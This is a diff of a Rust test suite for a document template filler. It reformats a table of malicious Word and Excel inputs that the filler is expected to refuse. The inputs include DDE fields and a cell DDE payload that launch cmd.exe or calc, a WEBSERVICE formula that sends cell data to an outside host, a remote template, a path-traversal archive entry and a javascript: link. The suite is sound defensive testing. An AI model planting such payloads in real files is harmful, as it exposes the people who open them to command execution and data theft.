@@ -57,24 +57,55 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Reason)> {
         ("not closed", body("<w:p>"), Reason::XmlMalformed),
         ("another archive", docx(&fine, &[("word/media/x.zip", "x")]), Reason::Nested),
         ("a way out", pack(&[("../x", "x"), ("[Content_Types].xml", "<a/>")]), Reason::ContainerUnsafe),
-        ("an embedded file", docx(&fine, &[("word/embeddings/oleObject1.bin", "x")]), Reason::TemplateEmbedded),
+        (
+            "an embedded file",
+            docx(&fine, &[("word/embeddings/oleObject1.bin", "x")]),
+            Reason::TemplateEmbedded,
+        ),
         ("a control", docx(&fine, &[("word/activeX/activeX1.xml", "<a/>")]), Reason::TemplateEmbedded),
-        ("an OLE object", body("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"), Reason::TemplateEmbedded),
+        (
+            "an OLE object",
+            body("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"),
+            Reason::TemplateEmbedded,
+        ),
         ("another document inside", body("<w:altChunk/>"), Reason::TemplateEmbedded),
-        ("a mail merge", docx(&fine, &[("word/settings.xml", "<w:settings xmlns:w=\"w\"><w:mailMerge/></w:settings>")]), Reason::TemplateEmbedded),
-        ("a template from the network", outside("attachedTemplate", "http://127.0.0.1/x.dotm"), Reason::TemplateEmbedded),
+        (
+            "a mail merge",
+            docx(&fine, &[("word/settings.xml", "<w:settings xmlns:w=\"w\"><w:mailMerge/></w:settings>")]),
+            Reason::TemplateEmbedded,
+        ),
+        (
+            "a template from the network",
+            outside("attachedTemplate", "http://127.0.0.1/x.dotm"),
+            Reason::TemplateEmbedded,
+        ),
         ("a picture from the network", outside("image", "http://127.0.0.1/x.png"), Reason::TemplateOutside),
         ("a link to a share", outside("hyperlink", "file://host/share"), Reason::TemplateOutside),
         ("a link that is a script", outside("hyperlink", "javascript:alert(1)"), Reason::TemplateOutside),
         ("INCLUDETEXT", body(&field(" INCLUDETEXT &quot;c:/x&quot;")), Reason::TemplateField),
         ("INCLUDEPICTURE", body(&field("includepicture x")), Reason::TemplateField),
         ("DDE over two runs", body(&broken_field("DDE", "AUTO c:\\\\cmd.exe")), Reason::TemplateField),
-        ("a field never ended", body(&broken_field("DDE x", "").replace("separate", "begin").replace("\"end\"", "\"begin\"")), Reason::TemplateField),
-        ("DDE in a header", docx(&fine, &[("word/header1.xml", &format!("<w:hdr xmlns:w=\"w\">{}</w:hdr>", field("DDE x y")))]), Reason::TemplateField),
+        (
+            "a field never ended",
+            body(&broken_field("DDE x", "").replace("separate", "begin").replace("\"end\"", "\"begin\"")),
+            Reason::TemplateField,
+        ),
+        (
+            "DDE in a header",
+            docx(
+                &fine,
+                &[("word/header1.xml", &format!("<w:hdr xmlns:w=\"w\">{}</w:hdr>", field("DDE x y")))],
+            ),
+            Reason::TemplateField,
+        ),
         ("WEBSERVICE", formula("WEBSERVICE(&quot;http://x/&quot;&amp;A1)"), Reason::TemplateFormula),
         ("DDE in a cell", formula("cmd|'/C calc'!A0"), Reason::TemplateFormula),
         ("another workbook", formula("[1]Sheet1!A1"), Reason::TemplateFormula),
-        ("external links", xlsx("", &[], &[("xl/externalLinks/externalLink1.xml", "<a/>")]), Reason::TemplateEmbedded),
+        (
+            "external links",
+            xlsx("", &[], &[("xl/externalLinks/externalLink1.xml", "<a/>")]),
+            Reason::TemplateEmbedded,
+        ),
         ("a source of data", xlsx("", &[], &[("xl/connections.xml", "<a/>")]), Reason::TemplateEmbedded),
     ]
 }
@@ -93,7 +124,12 @@ async fn each_is_refused_with_its_reason() {
     // The control: without the evil the same files are taken.
     assert!(filler.check(&docx(&paragraph(&["{{姓名}}"]), &[])).await.is_ok());
     assert!(filler.check(&outside("hyperlink", "https://www.moe.gov.cn/")).await.is_ok());
-    assert!(filler.check(&docx(&(field("PAGE") + &broken_field("NUM", "PAGES \\* MERGEFORMAT")), &[])).await.is_ok());
+    assert!(
+        filler
+            .check(&docx(&(field("PAGE") + &broken_field("NUM", "PAGES \\* MERGEFORMAT")), &[]))
+            .await
+            .is_ok()
+    );
     assert!(filler.check(&formula("SUM(B1:B9)")).await.is_ok());
 }
 
